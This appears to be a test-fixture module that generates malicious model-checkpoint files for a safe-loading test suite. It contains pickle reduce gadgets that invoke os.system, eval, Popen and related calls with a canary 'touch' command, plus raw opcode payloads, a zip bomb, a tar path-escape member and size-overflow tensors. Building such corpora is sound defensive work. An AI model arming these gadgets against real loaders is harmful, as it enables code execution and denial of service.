"""Malicious files: each wants to run something, or to do harm.

`MALICIOUS` is the table: a name, and what makes the bytes of the file, given the path
of the canary, a file that exists once anything of the malicious one has run.
"""

import argparse
import collections
import copyreg
import functools
import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import torch
from mmengine.config import Config
from mmengine.logging import HistoryBuffer

# ------------------------------------------------------- what pickles as it likes


class Pickled:
    """Pickles as whatever reduce value it is given."""

    def __init__(self, *value):
        self.value = value

    def __reduce__(self):
        return self.value


class Global:
    """Pickles as a name, whether or not there is such a thing."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __call__(self):
        """Never called: the pickler wants what it writes to be callable."""


def call(module, name, *arguments):
    return Pickled(Global(module, name), arguments)


def attribute(owner, name):
    return Pickled(getattr, (owner, name))


def buffer(**state):
    return Pickled(new_buffer, (), state)


def new_buffer():
    return HistoryBuffer.__new__(HistoryBuffer)


def array(shape, dtype, data):
    state = (1, shape, dtype, False, data)
    return Pickled(np.zeros(1).__reduce__()[0], (np.ndarray, (0,), b'b'), state)


def save(path, content, **options):
    """`torch.save`, with the objects above as they ask for."""

    # HistoryBuffer writes its state through __getstate__, hence no dispatch table.
    class Pickler(pickle._Pickler):
        def save(self, item, save_persistent_id=True):
            if item is new_buffer:
                self.save_global(HistoryBuffer, 'HistoryBuffer')
                return None
            if isinstance(item, Global):
                self.write(f'c{item.module}\n{item.name}\n'.encode())
                return None
            if isinstance(item, Pickled) and isinstance(item.value[0], Pickled):
                self.save(item.value[0])
                self.save(item.value[1])
                self.write(pickle.REDUCE)
                return None
            return super().save(item, save_persistent_id)

    module = argparse.Namespace(
        __name__='crafting',
        Pickler=Pickler,
        dump=lambda item, file, protocol: Pickler(file, protocol).dump(item),
    )
    torch.save(content, path, pickle_module=module, **options)


# -------------------------------------------------------- what is inside a pickle

GLOBALS = attribute(attribute(HistoryBuffer, '__init__'), '__globals__')
SCALAR = np.float64(1).__reduce__()[0]
OBJECTS = (3, '|', None, None, None, -1, -1, 63)
FIELDS = (3, '<', None, ('a',), {'a': (np.dtype('O'), 0)}, 8, 8, 63)
FLOAT = Global('torch', 'float32')
ORDERED = collections.OrderedDict


def nested(levels):
    inner = []
    for _ in range(levels):
        inner = [inner]
    return inner


def tensor_with(state):
    """A tensor of a type of its own, by which attributes come along."""
    parameter = torch.nn.Parameter(torch.ones(2))
    rebuild = Global('torch._tensor', '_rebuild_from_type_v2')
    func, arguments = parameter.__reduce_ex__(2)[:2]
    return Pickled(rebuild, (func, torch.nn.Parameter, arguments, state))


def hooked_tensor(hook):
    func, (storage, *arguments, _) = torch.ones(2).__reduce_ex__(2)[:2]
    return Pickled(func, (storage, *arguments, ORDERED({1: hook})))


# By name: from a command to what a checkpoint holds beside its weights.
HOSTILE = {
    'os.system': lambda run: Pickled(os.system, (run,)),
    'eval': lambda run: Pickled(eval, (f'__import__("os").system({run!r})',)),
    'exec': lambda run: Pickled(exec, (f'import os; os.system({run!r})',)),
    'import': lambda run: Pickled(__import__, ('os',)),
    'nested': lambda run: {'a': [({'b': Pickled(os.system, (run,))},)]},
    'as key': lambda run: {(1, Pickled(os.system, (run,))): 1},
    'in state': lambda run: Pickled(ORDERED, (), {'x': Pickled(os.system, (run,))}),
    'Popen': lambda run: call('subprocess', 'Popen', ['sh', '-c', run]),
    'runpy': lambda run: call(
        'runpy', '_run_code', f'import os; os.system({run!r})', {}
    ),
    'pickle.loads': lambda run: call(
        'pickle', 'loads', pickle.dumps(Pickled(os.system, (run,)), 2)
    ),
    'partial': lambda run: Pickled(functools.partial(os.system, run), ()),
    'partial state': lambda run: Pickled(
        functools.partial, (print,), (os.system, (run,), {}, None)
    ),
    'copyreg': lambda run: Pickled(
        copyreg._reconstructor, (Global('subprocess', 'Popen'), object, None)
    ),
    'copyreg extension': lambda run: call(
        'copyreg', 'add_extension', 'posix', 'system', 1
    ),
    'operator': lambda run: call('operator', 'methodcaller', 'system', run),
    'map': lambda run: call('builtins', 'map', Global('os', 'system'), [run]),
    'function': lambda run: call('types', 'FunctionType', None, {}),
    'numpy runstring': lambda run: call(
        'numpy.testing._private.utils',
        'runstring',
        f'import os; os.system({run!r})',
        {},
    ),
    'torch.load': lambda run: Pickled(torch.load, ('/dev/null',)),
    'torch storage bytes': lambda run: call(
        'torch.storage', '_load_from_bytes', pickle.dumps(Pickled(os.system, (run,)), 2)
    ),
    'torch.hub': lambda run: call('torch.hub', 'load', '.', 'x', 'local'),
    'registry': lambda run: call(
        'mmengine.registry', 'build_from_cfg', {'type': 'os.system', 'command': run}
    ),
    'config': lambda run: Pickled(
        Config.fromstring, (f'import os; os.system({run!r})', '.py')
    ),
    'getattr globals': lambda run: GLOBALS,
    'getattr init': lambda run: attribute(HistoryBuffer, '__init__'),
    'getattr register': lambda run: attribute(HistoryBuffer, 'register_statistics'),
    'getattr of other': lambda run: attribute(ORDERED, 'update'),
    'getattr called': lambda run: Pickled(attribute(HistoryBuffer, 'min'), (1,)),
    'getattr kept': lambda run: attribute(HistoryBuffer, 'min'),
    'dtype objects': lambda run: Pickled(np.dtype, ('O8', False, True), OBJECTS),
    'dtype flags': lambda run: Pickled(np.dtype, ('V8', False, True), OBJECTS),
    'dtype fields': lambda run: Pickled(np.dtype, ('f8', False, True), FIELDS),
    'object array': lambda run: np.array([Pickled(os.system, (run,))], dtype=object),
    'plain object array': lambda run: np.array([{}], dtype=object),
    'long array': lambda run: array((1 << 40,), np.dtype('f8'), b'12345678'),
    'negative array': lambda run: array((-1, -1), np.dtype('f8'), b'12345678'),
    'object scalar': lambda run: Pickled(SCALAR, (np.dtype('O'), b'12345678')),
    'buffer of text': lambda run: buffer(
        _log_history=np.array(['a']), _count_history=np.array([1]), max_length=1
    ),
    'buffer unfilled': lambda run: Pickled(new_buffer, ()),
    'partial module': lambda run: Pickled(np.load, ('/dev/null',)),
    'bytes claimed': lambda run: call('builtins', 'bytes', 1 << 62),
    'bytearray claimed': lambda run: call('builtins', 'bytearray', 1 << 62),
    'tensor claimed': lambda run: call('torch', 'Tensor', 1 << 60),
    'storage claimed': lambda run: call('torch.storage', 'UntypedStorage', 1 << 62),
    'codec': lambda run: call('_codecs', 'encode', 'x', 'os.system'),
    'type': lambda run: Global('collections', 'OrderedDict'),
    'namespace state': lambda run: Pickled(
        argparse.Namespace, (), {'x': Pickled(os.system, (run,))}
    ),
    'namespace method': lambda run: Pickled(
        argparse.Namespace, (), {'_get_kwargs': Global('builtins', 'set')}
    ),
    'forged get': lambda run: Pickled(
        ORDERED, (), {'get': Global('collections', 'Counter')}
    ),
    'forged deepcopy': lambda run: Pickled(
        ORDERED, (), {'__deepcopy__': Global('collections', 'Counter')}
    ),
    'forged versions': lambda run: Pickled(ORDERED, (), {'_metadata': {'': 'abc'}}),
    'tensor by other function': lambda run: Pickled(
        Global('torch._tensor', '_rebuild_from_type_v2'),
        (os.system, torch.nn.Parameter, (run,), {}),
    ),
    'tensor state': lambda run: tensor_with({'x': Pickled(os.system, (run,))}),
    'tensor method': lambda run: tensor_with({'numel': Global('builtins', 'set')}),
    'tensor hook': lambda run: hooked_tensor(Global('builtins', 'set')),
    'tensor without data': lambda run: call(
        'torch._utils',
        '_rebuild_meta_tensor_no_storage',
        FLOAT,
        (1 << 40,),
        (1,),
        False,
    ),
    'tensor over and over': lambda run: torch.ones(1).expand(1 << 40),
    'sparse tensor': lambda run: torch.ones(2, 2).to_sparse(),
    'nested deeply': lambda run: nested(120),
}


# ------------------------------------------------------------------- whole files


def saved(make, old_format=False):
    """A file that `torch.save` writes, in its format of today or the one before."""

    def write(canary):
        file = io.BytesIO()
        content = {'state_dict': {}, 'extra': make(f'touch {canary}')}
        save(file, content, _use_new_zipfile_serialization=not old_format)
        return file.getvalue()

    return write


def bare_pickle(protocol):
    return lambda canary: pickle.dumps(system(canary), protocol)


def system(canary):
    return Pickled(os.system, (f'touch {canary}',))


def archive(records, method=zipfile.ZIP_STORED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w', method) as target:
        for name, content in records:
            target.writestr(name, content)
    return file.getvalue()


@functools.cache
def zip_bomb():
    """A file of 1 MB that claims 256, which are never in memory here."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        with target.open('a/data.pkl', 'w') as record:
            for _ in range(256):
                record.write(bytes(1 << 20))
        target.writestr('a/version', b'3')
    return file.getvalue()


def good_pickle(content=None):
    return pickle.dumps({'state_dict': {}} if content is None else content, 2)


def evil_pickle(canary):
    return pickle.dumps({'state_dict': system(canary)}, 2)


def tar(canary):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode='w') as target:
        for name in ('storages', 'tensors', 'pickle'):
            member = tarfile.TarInfo(name)
            member.size = len(evil_pickle(canary))
            target.addfile(member, io.BytesIO(evil_pickle(canary)))
    return file.getvalue()


def tar_that_leaves(canary):
    """A member that a careless extraction would put in the canary's place."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode='w') as target:
        for name in (str(canary), 'storages', 'tensors', 'pickle'):
            target.addfile(tarfile.TarInfo(name), io.BytesIO())
    return file.getvalue()


def number(value):
    """The instructions that make a number or text."""
    return pickle.dumps(value, 2)[2:-1]


def parts(*items):
    return b'(' + b''.join(items) + b't'


def name(module, attribute):
    return f'c{module}\n{attribute}\n'.encode()


def tensor_in_zip(claimed, size, stride, offset=0, data=bytes(16)):
    """A tensor whose storage claims a length, over a record of 16 bytes."""
    storage = parts(
        number('storage'),
        name('torch', 'FloatStorage'),
        number('0'),
        number('cpu'),
        number(claimed),
    )
    tensor = (
        name('torch._utils', '_rebuild_tensor_v2')
        + parts(
            storage + b'Q',
            number(offset),
            parts(number(size)),
            parts(number(stride)),
            b'\x89',
            name('collections', 'OrderedDict') + b')R',
        )
        + b'R'
    )
    content = b'\x80\x02}' + number('x') + tensor + b's.'
    return archive([('a/data.pkl', content), ('a/data/0', data), ('a/version', b'3')])


def old_format_storage(claimed):
    """The old format, with a storage that claims a length over 16 bytes."""
    file = io.BytesIO()
    torch.save({'x': torch.ones(4)}, file, _use_new_zipfile_serialization=False)
    content = file.getvalue()
    # The length stands in the reference to the storage, and before its bytes.
    reference, length = b'cpuq\x06K\x04N', struct.pack('<q', 4)
    assert content.count(reference) == 1
    assert content[-24:-16] == length
    content = content[:-24] + struct.pack('<q', claimed) + content[-16:]
    return content.replace(reference, b'cpu' + number(claimed) + b'N')


def safetensors(header, data=bytes(16), claimed=None):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('<Q', len(text) if claimed is None else claimed) + text + data


ENTRY = {'dtype': 'F32', 'shape': [4], 'data_offsets': [0, 16]}
WHOLE = archive([('a/data.pkl', good_pickle()), ('a/version', b'3')])
INSTRUCTIONS = {
    'INST': lambda canary: b'(S"touch %b"\nios\nsystem\n.' % bytes(canary),
    'OBJ': lambda canary: b'(cos\nsystem\nS"touch %b"\no.' % bytes(canary),
    'NEWOBJ_EX': lambda canary: b'\x80\x04csubprocess\nPopen\n(]S"x"\na}t\x92.',
    'STACK_GLOBAL': lambda canary: (
        b'\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c%c%bR.'
        % (len(f'touch {canary}'), f'touch {canary}'.encode())
    ),
    'PERSID': lambda canary: b'Pmodule\n.',
    'EXT1': lambda canary: b'\x80\x02\x82\x01)R.',
}

MALICIOUS = {
    **{f'zip: {key}': saved(make) for key, make in HOSTILE.items()},
    **{
        f'old format: {key}': saved(HOSTILE[key], old_format=True)
        for key in ('os.system', 'eval', 'as key', 'in state', 'getattr globals')
    },
    **{f'bare pickle, protocol {n}': bare_pickle(n) for n in range(6)},
    **{f'instruction {key}': make for key, make in INSTRUCTIONS.items()},
    'zip, pickle under another name': lambda canary: archive(
        [('a/evil.pkl', evil_pickle(canary)), ('a/version', b'3')]
    ),
    'zip, pickle in another folder': lambda canary: archive(
        [('a/version', b'3'), ('b/data.pkl', evil_pickle(canary))]
    ),
    'zip, pickle beside the folder': lambda canary: archive(
        [('data.pkl', evil_pickle(canary)), ('version', b'3')]
    ),
    'zip, two pickles of one name': lambda canary: archive(
        [('a/data.pkl', good_pickle()), ('a/data.pkl', evil_pickle(canary))]
    ),
    'zip in a zip': lambda canary: archive(
        [('a/data.pkl', archive([('a/data.pkl', evil_pickle(canary))]))]
    ),
    'zip, pickle in capitals': lambda canary: archive(
        [('a/DATA.PKL', evil_pickle(canary)), ('a/version', b'3')]
    ),
    'zip after a pickle': lambda canary: evil_pickle(canary) + WHOLE,
    'zip, truncated': lambda canary: WHOLE[:-30],
    'zip, compressed': lambda canary: archive(
        [('a/data.pkl', good_pickle())], zipfile.ZIP_DEFLATED
    ),
    'zip bomb': lambda canary: zip_bomb(),
    'zip, record that claims': lambda canary: WHOLE.replace(
        struct.pack('<2L', len(good_pickle()), len(good_pickle())),
        struct.pack('<2L', 1 << 31, 1 << 31),
    ),
    'TorchScript': lambda canary: archive(
        [
            (f'script/{record}', b'\x80\x02N.')
            for record in ('data.pkl', 'constants.pkl', 'version')
        ]
    ),
    'tar': tar,
    'tar that leaves its folder': tar_that_leaves,
    'storage of 2**62 bytes': lambda canary: tensor_in_zip(1 << 60, 1 << 60, 1),
    'storage beyond its record': lambda canary: tensor_in_zip(1 << 20, 1 << 20, 1),
    'tensor beyond its storage': lambda canary: tensor_in_zip(4, 1 << 30, 1),
    'tensor before its storage': lambda canary: tensor_in_zip(4, 4, 1, offset=-64),
    'tensor backwards': lambda canary: tensor_in_zip(4, 4, -1, offset=3),
    'old format, 2**62 bytes': lambda canary: old_format_storage(1 << 60),
    'text of 4 GB': lambda canary: b'\x80\x02X\xff\xff\xff\xffabc.',
    'bytes of 2**62': lambda canary: b'\x80\x04\x8e' + struct.pack('<Q', 1 << 62),
    'frame of 2**62': lambda canary: b'\x80\x04\x95' + struct.pack('<Q', 1 << 62),
    'safetensors, header of 2**62': lambda canary: safetensors({}, claimed=1 << 62),
    'safetensors, header cut': lambda canary: safetensors({'x': ENTRY})[:30],
    'safetensors, 2**62 bytes': lambda canary: safetensors(
        {'x': {**ENTRY, 'shape': [1 << 60], 'data_offsets': [0, 1 << 62]}}
    ),
    'safetensors, overlapping': lambda canary: safetensors({'x': ENTRY, 'y': ENTRY}),
    'safetensors, nested header': lambda canary: safetensors(
        b'{"a":' + b'[' * 100_000 + b']' * 100_000 + b'}'
    ),
    'safetensors, meta no JSON': lambda canary: safetensors(
        {'x': ENTRY, '__metadata__': {'mmrapidnet_meta': '[' * 100_000}}
    ),
    **{
        f'{n} random bytes': lambda canary, n=n: np.random.default_rng(n).bytes(n)
        for n in (10, 1000, 100_000)
    },
    'nothing': lambda canary: b'',
    'text': lambda canary: b'import os\nos.system("touch %b")\n' % bytes(canary),
    'a list': lambda canary: archive(
        [('a/data.pkl', good_pickle([1])), ('a/version', b'3')]
    ),
    'a number': lambda canary: archive(
        [('a/data.pkl', good_pickle(1)), ('a/version', b'3')]
    ),
    'a module': lambda canary: saved(lambda run: torch.nn.Linear(2, 2))(canary),
}


def write(name: str, path: Path, canary: Path) -> Path:
    """Write a file of the table."""
    path.write_bytes(MALICIOUS[name](canary))
    return path
